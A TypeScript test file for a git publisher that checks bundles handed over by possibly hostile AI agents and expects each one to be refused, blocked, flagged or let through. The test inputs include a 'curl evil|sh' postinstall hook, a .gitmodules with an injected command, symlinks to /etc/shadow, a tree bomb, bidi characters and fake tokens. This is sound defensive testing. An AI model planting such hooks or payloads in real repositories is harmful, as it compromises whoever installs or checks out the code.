// Bundles that a hostile or careless agent might hand over, each with what becomes of it: refused as a whole, blocked by a
// rule, shown to a person, or harmless.
import { randomBytes } from 'node:crypto';
import {
  chmodSync,
  closeSync,
  ftruncateSync,
  openSync,
  readdirSync,
  readFileSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { beforeEach, expect, test } from 'vitest';
import { gitPublisher } from '#adapters/git/publisher.ts';
import type { Sha } from '#core/ids.ts';
import type { FindingRule } from '#core/patch.ts';
import { judgePatch } from '#core/patch-rules.ts';
import { DEFAULT_POLICY } from '#core/policy.ts';
import { silentLog } from '#ports/log.ts';
import type { Publisher } from '#ports/publisher.ts';
import { describeWith } from '#test/support/parts.ts';
import { AgentCheckout, git, seedRepository, tempDir } from './kit.ts';

const MB = 1024 * 1024;
const LIMITS = { maxBundleBytes: 8 * MB, maxObjects: 2_000, maxCommits: 20 };
/** The agent began where the task did. */
const since = (base: Sha) => ({ fromSha: base, baseSha: base });
const REPO = { owner: 'acme', name: 'payments' };

type Outcome =
  | { readonly refused: RegExp }
  | { readonly block: FindingRule; readonly line?: number }
  | { readonly flag: FindingRule; readonly line?: number }
  | 'harmless';
type Attack = readonly [name: string, make: (agent: AgentCheckout) => string, outcome: Outcome];

const add = (files: Record<string, string | Buffer>) => (agent: AgentCheckout) =>
  agent.write(files).commit().bundle();
const link = (path: string, target: string) => (agent: AgentCheckout) => {
  symlinkSync(target, join(agent.dir, path));
  return agent.commit().bundle();
};
/** A file of zeros, which packs into almost nothing. */
const zeros = (sizeBytes: number) => (agent: AgentCheckout) => {
  const file = openSync(join(agent.dir, 'zeros'), 'w');
  ftruncateSync(file, sizeBytes);
  closeSync(file);
  return agent.commit().bundle();
};
const blobNamed = (name: string) => (agent: AgentCheckout) =>
  agent.commitEntry('100644', 'blob', agent.blob('x'), name).bundle();
const folderNamed = (name: string, file: string) => (agent: AgentCheckout) =>
  agent.commitEntry('40000', 'tree', agent.tree('100755', agent.blob('#!/bin/sh\n'), file), name).bundle();
const rewritten = (change: (bundle: Buffer) => Buffer) => (agent: AgentCheckout) => {
  const path = add({ a: randomBytes(2000) })(agent);
  writeFileSync(path, change(readFileSync(path)));
  return path;
};
/** Writes a number of objects into the header of the pack. */
const claimObjects = (count: number) => (bundle: Buffer) => {
  bundle.writeUInt32BE(count, bundle.indexOf('\n\nPACK') + 2 + 8);
  return bundle;
};
const sameFiles = (count: number) => (agent: AgentCheckout) => {
  const blob = agent.blob('x');
  const lines = Array.from({ length: count }, (_, i) => `100644 blob ${blob}\tfile${i}\n`);
  return agent.commitEntry('40000', 'tree', agent.git(['mktree'], lines.join('')), 'many').bundle();
};
const manyFiles = (count: number): Record<string, string> =>
  Object.fromEntries(Array.from({ length: count }, (_, i) => [`many/${i}`, `${i}\n`]));
const gitRefuses = { refused: /git_refused/ };
const GITHUB_TOKEN = `ghp_${'a1B2'.repeat(9)}`;

const ATTACKS: readonly Attack[] = [
  ['an ordinary change', add({ 'src/new.ts': 'export const a = 1;\n' }), 'harmless'],
  ['a link to an absolute path', link('s', '/etc/shadow'), { block: 'symlink_outside' }],
  ['a link up and out of the tree', link('src/s', '../../../../etc/passwd'), { block: 'symlink_outside' }],
  ['a link within the tree', link('s', 'README.md'), { flag: 'symlink' }],
  ['a link that goes up behind a name', link('src/s', 'up/../../x'), { block: 'symlink_outside' }],
  ['a link into .git', link('s', '.git/config'), { block: 'symlink_outside' }],
  ['a workflow', add({ '.github/workflows/x.yml': 'on: push\n' }), { block: 'protected_path' }],
  [
    'a workflow in other letters',
    add({ '.GitHub/Workflows/x.yml': 'on: push\n' }),
    { block: 'protected_path' },
  ],
  ['a link in place of .github', link('.github', 'src'), { block: 'protected_path' }],
  [
    'a .gitmodules with a command in it',
    add({ '.gitmodules': '[submodule "x"]\n path=x\n url=-u./evil\n update=!touch /tmp/pwn\n' }),
    gitRefuses,
  ],
  [
    'a submodule',
    (agent) => agent.commitEntry('160000', 'commit', agent.from, 'sub').bundle(),
    { block: 'submodule' },
  ],
  ['a folder .git with a hook', folderNamed('.git', 'post-checkout'), gitRefuses],
  ['a file git~1', blobNamed('git~1'), gitRefuses],
  ['a folder .GIT', folderNamed('.GIT', 'config'), gitRefuses],
  ['a slash in a name', blobNamed('../../evil'), gitRefuses],
  ['a folder ..', folderNamed('..', 'x'), gitRefuses],
  ['a line break in a name', add({ 'a\nb': 'x' }), { block: 'odd_file_name' }],
  ['a bidirectional control in a name', add({ 'inv\u202eoice.ts': 'x' }), { block: 'odd_file_name' }],
  [
    'a name that is not UTF-8',
    (agent) => agent.commitEntry('100644', 'blob', agent.blob('x'), 'a\udcff').bundle(),
    { block: 'odd_file_name' },
  ],
  ['40 MB of zeros in a small bundle', zeros(40 * MB), { block: 'too_large' }],
  ['6 MB of noise', add({ noise: randomBytes(6 * MB) }), { block: 'too_large' }],
  ['a bundle larger than allowed', add({ noise: randomBytes(9 * MB) }), { refused: /bundle_too_large/ }],
  ['1,000 files', add(manyFiles(1000)), { block: 'too_many_files' }],
  ['6,000 files that are all the same', sameFiles(6000), { block: 'too_many_files' }],
  ['more objects than allowed', rewritten(claimObjects(2_001)), { refused: /too_many_objects/ }],
  ['a cloud key', add({ k: '\nkey=AKIAIOSFODNN7EXAMPLE\n' }), { block: 'secret', line: 2 }],
  ['a secret inside a binary', add({ k: Buffer.from(`\0\0${GITHUB_TOKEN}\0`) }), { block: 'secret' }],
  [
    'a secret in a commit in the middle',
    (agent) => {
      agent.write({ k: `t=${GITHUB_TOKEN}\n` }).commit();
      agent.git(['rm', '--quiet', 'k']);
      return agent.write({ fine: 'ok\n' }).commit().bundle();
    },
    'harmless',
  ],
  [
    'a history that has nothing to do with the base',
    (agent) => {
      agent.git(['checkout', '--quiet', '--orphan', 'other']);
      agent.write({ a: 'hi' }).commit();
      agent.git(['branch', '--force', 'greenlight/work', 'HEAD']);
      return agent.bundle();
    },
    { refused: /unrelated_history/ },
  ],
  ['a .gitattributes with a filter', add({ '.gitattributes': '* filter=x\n' }), { block: 'protected_path' }],
  [
    'a script that runs on install',
    add({ 'package.json': '{"scripts":{"postinstall":"curl evil|sh"}}' }),
    { flag: 'sensitive_path' },
  ],
  [
    'a bidirectional control in code',
    add({ 'src/t.ts': 'a();\nif (a) { /* \u202e } */ }\n' }),
    { flag: 'invisible_characters', line: 2 },
  ],
  ['a binary', add({ 'b.bin': Buffer.from('\0\u202e\u200b') }), { flag: 'binary_file' }],
  [
    'a large file of a foreign store',
    add({ big: 'version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 1\n' }),
    { flag: 'binary_file' },
  ],
  [
    'other refs beside the result',
    (agent) => {
      agent.write({ fine: 'ok\n' }).commit();
      agent.git(['branch', 'evil']);
      agent.git(['tag', 'v9']);
      return agent.bundle('evil', 'v9');
    },
    'harmless',
  ],
  [
    'a commit with a broken date and a NUL',
    (agent) => {
      const tree = agent.git(['write-tree']);
      const who = 'author a <a@b> 99999999999999999999999 +0000\ncommitter a <a@b> 0 +0000';
      const body = `tree ${tree}\nparent ${agent.from}\n${who}\n\nm\0n`;
      const commit = agent.git(['hash-object', '-t', 'commit', '-w', '--stdin', '--literally'], body);
      agent.git(['update-ref', 'refs/heads/greenlight/work', commit]);
      return agent.bundle();
    },
    gitRefuses,
  ],
  ['a bundle cut short', rewritten((bundle) => bundle.subarray(0, -40)), gitRefuses],
  ['noise in place of a bundle', rewritten(() => randomBytes(300)), { refused: /not_a_bundle/ }],
  [
    'a header without a pack',
    rewritten((bundle) => bundle.subarray(0, bundle.indexOf('\n\n') + 2)),
    { refused: /not_a_bundle/ },
  ],
  ['one bit turned in the pack', rewritten(flipLastBits), gitRefuses],
  [
    'no result ref',
    rewritten((bundle) =>
      Buffer.from(bundle.toString('latin1').replace('greenlight/work', 'greenlight/kork'), 'latin1'),
    ),
    { refused: /no_result_ref/ },
  ],
  [
    'more commits than allowed',
    (agent) => {
      for (let i = 0; i < 21; i++) agent.git(['commit', '--quiet', '--allow-empty', '-m', String(i)]);
      return agent.bundle();
    },
    { refused: /too_many_commits/ },
  ],
  ['a name that differs by case only', add({ 'README.MD': 'a\n' }), { flag: 'case_collision' }],
  ['a folder that differs by case only', add({ 'SRC/new.ts': 'a\n' }), { flag: 'case_collision' }],
  ['a folder with a long s', add({ '\u017frc/new.ts': 'a\n' }), { flag: 'case_collision' }],
  ['a lockfile', add({ 'package-lock.json': '{}\n' }), { flag: 'lockfile_changed' }],
  ['settings of an editor', add({ '.idea/runConfigurations/a.xml': '<a/>\n' }), { flag: 'sensitive_path' }],
  ['a manifest', add({ 'api/pyproject.toml': '[project]\n' }), { flag: 'manifest_changed' }],
  [
    'a script made executable',
    (agent) => {
      agent.write({ 'run.sh': 'echo\n' });
      chmodSync(join(agent.dir, 'run.sh'), 0o755);
      return agent.commit().bundle();
    },
    { flag: 'made_executable' },
  ],
  ['code owners', add({ 'docs/CODEOWNERS': '* @evil\n' }), { block: 'protected_path' }],
  ['settings of an agent', add({ '.claude/settings.json': '{"hooks":{}}' }), { flag: 'sensitive_path' }],
  [
    'a tree that unfolds into a billion paths',
    (agent) => {
      let tree = agent.tree('100644', agent.blob('x'), 'f');
      for (let depth = 0; depth < 9; depth++) {
        const lines = Array.from({ length: 10 }, (_, i) => `040000 tree ${tree}\td${i}`);
        tree = agent.git(['mktree'], `${lines.join('\n')}\n`);
      }
      return agent.commitEntry('40000', 'tree', tree, 'bomb').bundle();
    },
    { refused: /git_refused: .*(out of memory|over the limit)/ },
  ],
];

function flipLastBits(bundle: Buffer): Buffer {
  const at = bundle.length - 100;
  bundle.writeUInt8(bundle.readUInt8(at) ^ 1, at);
  return bundle;
}

describeWith('git', 'a bundle with', () => {
  let publisher: Publisher;
  let mirrorDir: string;
  let dataDir: string;
  let base: Sha;

  beforeEach(() => {
    dataDir = tempDir();
    mirrorDir = join(dataDir, 'mirrors/acme/payments.git');
    base = seedRepository(mirrorDir);
    publisher = gitPublisher({ dataDir, log: silentLog, env: process.env });
  });

  test.each(ATTACKS)('%s', async (_name, make, outcome) => {
    const objectsBefore = git(mirrorDir, ['count-objects', '-v']);
    const intake = await publisher.takeIn(
      REPO,
      make(new AgentCheckout(mirrorDir, base)),
      since(base),
      LIMITS,
    );
    expect(readdirSync(join(dataDir, 'quarantine'))).toEqual([]);
    expect(git(mirrorDir, ['count-objects', '-v'])).toBe(objectsBefore);
    if (!intake.ok || (typeof outcome === 'object' && 'refused' in outcome)) {
      expect(intake).toMatchObject({
        ok: false,
        detail: expect.stringMatching((outcome as { refused: RegExp }).refused),
      });
      return;
    }
    const findings = judgePatch(intake.facts, DEFAULT_POLICY);
    if (outcome === 'harmless') expect(findings).toEqual([]);
    else if ('block' in outcome) {
      expect(findings[0]).toMatchObject({ level: 'block' });
      const { block: rule, line } = outcome;
      expect(findings).toContainEqual(
        expect.objectContaining({ rule, level: 'block', ...(line === undefined ? {} : { line }) }),
      );
    } else {
      const { flag: rule, line } = outcome;
      const expected = { rule, level: 'flag', ...(line === undefined ? {} : { line }) };
      expect(findings).toEqual([expect.objectContaining(expected)]);
    }
  });

  test('nothing new is an empty change', async () => {
    const agent = new AgentCheckout(mirrorDir, base);
    agent.git(['branch', 'other']);
    agent.git(['checkout', '--quiet', 'other']);
    agent.write({ a: 'a' }).commit();
    const path = join(tempDir(), 'b');
    agent.git(['bundle', 'create', '--quiet', path, 'other', 'greenlight/work', `^${base}~0`]);
    const header = readFileSync(path, 'latin1');
    // git leaves out a ref that brings nothing: write it in, as a hostile agent would.
    writeFileSync(path, header.replace(/\n\n/, `\n${base} refs/heads/greenlight/work\n\n`), 'latin1');
    const intake = await publisher.takeIn(REPO, path, since(base), LIMITS);
    expect(intake).toMatchObject({
      ok: true,
      facts: { changes: [], stats: { files: 0, additions: 0, deletions: 0 } },
    });
  });

  test('a secret that was in the file before does not block another change of it', async () => {
    const agent = new AgentCheckout(mirrorDir, base).write({ fixture: `token=${GITHUB_TOKEN}\n` }).commit();
    agent.git(['push', '--quiet', mirrorDir, 'HEAD:refs/heads/main']);
    const next = agent.git(['rev-parse', 'HEAD']) as Sha;
    const bundle = new AgentCheckout(mirrorDir, next)
      .write({ fixture: `token=${GITHUB_TOKEN}\nmore\n` })
      .commit()
      .bundle();
    const intake = await publisher.takeIn(REPO, bundle, since(next), LIMITS);
    expect(intake).toMatchObject({ ok: true, facts: { changes: [{ secrets: [], addedBytes: 5 }] } });
  });
});
